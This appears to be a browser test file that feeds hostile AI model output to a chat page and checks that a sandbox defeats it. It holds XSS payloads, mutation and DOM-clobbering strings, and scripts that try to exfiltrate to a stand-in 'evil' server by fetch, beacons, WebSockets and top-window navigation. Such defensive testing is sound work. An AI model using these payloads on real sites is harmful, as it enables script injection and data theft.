/**
 * Hostile model output in a real browser (SPEC U9): each attack is let run, and must be seen to fail. An "evil" server listens on
 * loopback; a single request that reaches it fails the suite. The real binary serves the page, under its own headers.
 */
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import { skip, startServer } from "./binary.mjs";
import { ask, assert, firstVisit, lastFrame, openBrowser } from "./harness.mjs";

let server;
let browser;
let page;
let evil;
let asset;
const hits = [];

before(async () => {
  if (skip) return;
  const listener = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/html" }).end("<script>parent.postMessage('evil','*')</script>");
  });
  await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
  evil = { url: `http://127.0.0.1:${listener.address().port}`, port: listener.address().port, close: () => listener.close() };
  server = await startServer({ pauseMs: 0 });
  browser = await openBrowser();
  page = browser.page;
  await page.goto(server.url);
  await firstVisit(page);
  asset = await page.evaluate(() => document.querySelector("script[src]").src);
  await page.evaluate(() => {
    localStorage.setItem("secret", "local");
    document.cookie = "readable=1; SameSite=Strict";
    window.messages = [];
    addEventListener("message", (event) => window.messages.push(event.data));
  });
});

after(async () => {
  await browser?.close();
  await server?.close();
  evil?.close();
});

/** Nothing got out, nothing ran in the page, and the page is still itself. */
async function unharmed() {
  await page.waitForTimeout(120);
  assert.deepEqual(hits, [], "no request reached the evil server");
  assert.equal(await page.evaluate(() => window.pwned), undefined, "nothing ran in the page's own origin");
  assert.ok(page.url().startsWith(server.url), "the top window stayed");
  assert.equal(page.context().pages().length, 1, "no window was opened");
  await page.getByRole("textbox", { name: "你的问题" }).waitFor();
}

async function answer(text) {
  const count = await page.locator("article[data-state]").count();
  await ask(page, `[text]${text}`);
  await page.locator("article[data-state=complete]").nth(count).waitFor();
  return page.locator("article[data-state]").nth(count);
}

/** Runs `code` (an async function body) as a report's script and gives back what it returned or threw. */
async function inFrame(code) {
  await answer(`攻击\n\n<div id="out">等待</div>\n<script>Promise.race([(async () => { ${code} })(), new Promise((_, no) => setTimeout(() => no(new Error("nothing happened")), 500))]).then((v) => { out.textContent = "RESULT " + String(v) }, (e) => { out.textContent = "THROWN " + e.name + ": " + e.message });</script>`);
  const frame = await lastFrame(page);
  const out = frame.locator("#out");
  await out.filter({ hasText: /RESULT|THROWN/ }).waitFor();
  const text = await out.innerText();
  await unharmed();
  return text;
}

describe("markdown in the page", { skip }, () => {
  const ATTACKS = {
    "img onerror": "<img src=x onerror='window.pwned=1'>",
    "svg onload": "a <b><svg onload='window.pwned=1'><animate onbegin='window.pwned=1'></svg></b>",
    "javascript link": "[点我](javascript:window.pwned=1)",
    "obfuscated link": "<a href='java&#10;script:window.pwned=1'>点我</a>",
    "data link": "<a href='data:text/html,<script>opener.pwned=1</script>' target=_top>点我</a>",
    "mutation": "<b><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'></b>",
    "table cell": "| a |\n|---|\n| <img src=x onerror='window.pwned=1'> [x](javascript:window.pwned=1) |",
    "math": "公式 $\\href{javascript:window.pwned=1}{x} = \\includegraphics{EVIL/a.png} \\htmlStyle{background:url(EVIL)}{y}$",
    "beacon image": "![图](EVIL/beacon?c=1)",
    "style": "<b><style>body{background:url(EVIL/css)}</style></b>",
    "clobbering": "<b id=app><a id=main name=body>x</a></b>",
  };
  for (const [name, text] of Object.entries(ATTACKS)) {
    it(`disarms: ${name}`, async () => {
      const article = await answer(text.replaceAll("EVIL", evil.url));
      for (const link of await article.locator("[data-part=report] a[href]").all()) assert.doesNotMatch(await link.getAttribute("href"), /^(javascript|data)/i);
      const clickable = article.locator("[data-part=report] a").first();
      if (await clickable.count()) await clickable.click({ timeout: 1000 }).catch(() => {});
      await unharmed();
    });
  }

  it("shows a hostile file name, question, error and observation as text", async () => {
    const article = await answer("<script>window.pwned=1</script><img src=x onerror=window.pwned=1>");
    assert.match(await article.locator("[data-part=question]").innerText(), /<script>/);
    await unharmed();
  });
});

describe("a script in the sandboxed frame", { skip }, () => {
  const FAILS = {
    "reads cookies": ["return document.cookie", /^RESULT$/],
    "writes cookies": ["document.cookie = 'a=1'; return document.cookie", /^RESULT a=1$/],
    "reads localStorage": ["return localStorage.getItem('secret')", /^RESULT null$/],
    "reads sessionStorage": ["return sessionStorage.length", /^RESULT undefined$/],
    "opens IndexedDB": "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = () => no(r.error) }); return 'opened'",
    "reads the parent's document": "return parent.document.body.innerText",
    "reads the parent's location": "return parent.location.href",
    "calls into the parent": "parent.pwned = 1; return parent.pwned",
    "reaches the top window's document": "return top.document.title",
    "reads the frame element": "const f = window.frameElement; if (!f) throw new Error('no frame element'); return f.outerHTML",
    "navigates the top window": "top.location.href = 'EVIL/top'; return 'set'",
    "replaces the top window": "top.location.replace('EVIL/top'); return 'set'",
    "fetches its server": "return (await fetch('SELF/api/v1/conversations')).status",
    "fetches another server": "return (await fetch('EVIL/fetch', { mode: 'no-cors' })).type",
    "sends XHR": "await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = () => no(new Error('blocked')); x.open('GET', 'EVIL/xhr'); x.send() }); return 'sent'",
    "opens a WebSocket": "await new Promise((ok, no) => { const s = new WebSocket('ws://127.0.0.1:PORT/ws'); s.onopen = ok; s.onerror = () => no(new Error('blocked')) }); return 'open'",
    "opens an EventSource": "await new Promise((ok, no) => { const s = new EventSource('EVIL/es'); s.onopen = ok; s.onerror = () => no(new Error('blocked')) }); return 'open'",
    "loads an image beacon": "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error('blocked')); i.src = 'EVIL/img' }); return 'loaded'",
    "loads a script": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = 'EVIL/js'; document.head.append(s) }); return 'loaded'",
    "loads a script of its own server": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = 'ASSET'; document.head.append(s) }); return 'loaded'",
    "imports a module": "await import('EVIL/mod.js'); return 'imported'",
    "starts a worker": "new Worker(URL.createObjectURL(new Blob(['1']))).postMessage(1); await new Promise((ok, no) => setTimeout(() => no(new Error('blocked')), 300))",
    "registers a service worker": "await navigator.serviceWorker.register('/sw.js'); return 'registered'",
    "evaluates text": "return eval('1+1')",
    "opens a window": "const w = window.open('EVIL/open'); if (!w) throw new Error('blocked'); return 'opened'",
    "uses WebRTC": "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] }); return 'made'",
    "uses WebTransport": "new WebTransport('https://127.0.0.1:PORT/'); return 'made'",
    "uses a shadow root": "document.body.attachShadow({ mode: 'open' }); return 'made'",
    "reads the clipboard": "return await navigator.clipboard.readText()",
    "asks for the location": "await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, (e) => no(new Error(e.message))))",
    "goes full screen": "await document.documentElement.requestFullscreen(); return 'full'",
  };
  for (const [name, attack] of Object.entries(FAILS)) {
    // Cookies and storage are its own empty ones: what it may find there at most.
    const [code, atMost] = Array.isArray(attack) ? attack : [attack, /^THROWN/];
    it(`fails when it ${name}`, async () => {
      const result = await inFrame(code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url).replaceAll("ASSET", asset).replaceAll("PORT", String(evil.port)));
      assert.match(result, atMost, result);
      assert.equal(await page.evaluate(() => document.cookie), "readable=1");
    });
  }

  it("gets no answer from sendBeacon, CSS, fonts, prefetch, ping and forms", async () => {
    await answer(`攻击\n\n<style>@import url(${evil.url}/import); @font-face { font-family: x; src: url(${evil.url}/font) } body { font-family: x; background: url(${evil.url}/bg) }</style>
<div id="t">字<a id="a" href="${evil.url}/link" ping="${evil.url}/ping" target="_top">x</a></div>
<form id="f" action="${evil.url}/form" method="post" target="_top"><input name="a" value="1"></form>
<link rel="prefetch" href="${evil.url}/prefetch"><link rel="preconnect" href="${evil.url}"><link rel="stylesheet" href="${evil.url}/sheet">
<script>navigator.sendBeacon("${evil.url}/beacon", "x"); document.getElementById("a").click(); document.getElementById("f").submit();</script>`);
    const frame = await lastFrame(page);
    await frame.locator("#t").waitFor();
    assert.equal(await frame.locator("link").count(), 0);
    await unharmed();
  });

  it("cannot keep a nested frame, with or without its own document", async () => {
    await answer(`攻击\n\n<div id="t">嵌套</div><iframe srcdoc="<script>new RTCPeerConnection(); parent.parent.postMessage('nested ran', '*')</script>"></iframe><iframe src="${evil.url}/nested"></iframe>
<script>for (const tag of ["iframe", "object", "embed"]) { const e = document.createElement(tag); e.srcdoc = "<script>parent.parent.postMessage('nested ran', '*')<\\/script>"; e.data = e.src = "${evil.url}/n"; document.body.append(e); }
const i = document.createElement("iframe"); document.body.append(i); try { document.getElementById("t").textContent = "RTC " + typeof i.contentWindow.RTCPeerConnection } catch (e) { document.getElementById("t").textContent = "blocked " + e.name }</script>`);
    const frame = await lastFrame(page);
    await frame.locator("#t", { hasText: /RTC undefined|blocked/ }).waitFor();
    await unharmed();
    assert.equal(await frame.locator("iframe, object, embed").count(), 0);
    assert.ok(!(await page.evaluate(() => window.messages)).includes("nested ran"));
  });

  for (const [name, code] of [
    ["assigning its location", `location.href = "EVIL/self?data=1"`],
    ["a meta refresh", `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=EVIL/meta">')`],
    ["a data: document", `location.href = "data:text/html,<script>fetch('EVIL/data')<\\/script>"`],
    ["a blob: document", `location.href = URL.createObjectURL(new Blob(["<script>fetch('EVIL/blob')<\\/script>"], { type: "text/html" }))`],
    ["the page itself", `location.href = "SELF/"`],
  ]) {
    it(`cannot leave its frame by ${name}`, async () => {
      await answer(`攻击\n\n<div id="here">离开</div><script>setTimeout(() => { ${code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url)} }, 100)</script>`);
      await page.waitForTimeout(500);
      const frame = await lastFrame(page);
      assert.equal(await frame.locator("#here").innerText(), "离开");
      assert.ok(frame.url().endsWith("/frame"));
      await unharmed();
    });
  }

  it("cannot deceive the page by messages, forged in the frame's own document", async () => {
    const article = await answer("攻击\n\n<div>消息</div>");
    const frame = await lastFrame(page);
    await article.locator("[data-part=frame][data-phase=ready]").waitFor();
    await frame.evaluate(() => {
      const forged = [{ type: "ba:error2" }, { type: "ba:height", height: 1e12 }, { type: "ba:height", height: "<b>" }, { type: "ba:png", request: "", images: ["data:text/html,<b>1</b>"] }, { type: "ba:hello" }, "ba:hello", null, { type: "ba:render", html: "<img src=x onerror=pwned=1>" }];
      for (const message of forged) parent.postMessage(message, "*");
      parent.postMessage({ type: "ba:error", message: "<img src=x onerror='window.pwned=1'><a href='javascript:1'>x</a>" }, "*");
    });
    await article.locator("[data-part=frame][data-phase=failed]").waitFor();
    assert.match(await article.locator(".problem").innerText(), /<img src=x onerror=/, "the message is shown as text");
    assert.ok((await article.evaluate((node) => node.getBoundingClientRect().height)) < 5000);
    await unharmed();
  });

  it("cannot drown the page in messages, neither its script nor its document", async () => {
    await answer(`攻击\n\n<div id="f">洪水</div><script>const big = "x".repeat(10000); for (let i = 0; i < 200000; i++) postMessage({ errors: [big], i });</script>`);
    await page.getByRole("textbox", { name: "你的问题" }).fill("还活着", { timeout: 5000 });
    const article = await answer("攻击\n\n<div>消息</div>");
    await article.locator("[data-part=frame][data-phase=ready]").waitFor();
    const frame = await lastFrame(page);
    await frame.evaluate(() => void setInterval(() => { for (let i = 0; i < 5000; i += 1) parent.postMessage({ type: "ba:height", height: 100 + (i % 900) }, "*"); }, 1));
    await article.getByText("这段内容不停地发送消息，已被停止").waitFor();
    assert.equal(await article.locator("iframe").count(), 0, "the frame is gone");
    await page.getByRole("textbox", { name: "你的问题" }).fill("还活着", { timeout: 5000 });
    await page.reload();
    await page.locator("article[data-state=complete]").last().waitFor();
    await page.getByRole("textbox", { name: "你的问题" }).fill("还活着", { timeout: 5000 });
  });

  it("cannot speak for another frame, nor can another window", async () => {
    const before = await page.locator("[data-part=frame]").count();
    await page.evaluate(() => {
      for (const type of ["ba:error", "ba:height"]) window.postMessage({ type, message: "forged", height: 3000 }, "*");
    });
    await page.waitForTimeout(200);
    assert.equal(await page.getByText("forged").count(), 0);
    assert.equal(await page.locator("[data-part=frame]").count(), before);
  });

  it("cannot start a download or a dialog", async () => {
    const downloads = [];
    const dialogs = [];
    page.on("download", (item) => downloads.push(item.url()));
    page.on("dialog", (item) => (dialogs.push(item.message()), item.dismiss()));
    await answer(`攻击\n\n<div>下载</div><script>alert(1); confirm(2); const a = document.createElement("a"); a.download = "x.exe"; a.href = "data:application/octet-stream,x"; document.body.append(a); a.click(); print();</script>`);
    await page.waitForTimeout(400);
    assert.deepEqual([downloads, dialogs], [[], []]);
    await unharmed();
  });

  it("cannot hold the page with an endless loop", async () => {
    await answer("攻击\n\n<div>循环</div><script>for (;;) {}</script>");
    await page.waitForTimeout(500);
    await page.getByRole("textbox", { name: "你的问题" }).fill("还活着", { timeout: 5000 });
    await page.locator("[data-part=frame]").last().getByText("脚本没有结束，已被停止").waitFor({ timeout: 60_000 });
    const article = await answer("下一个回答");
    await article.getByText("下一个回答").last().waitFor();
  });
});
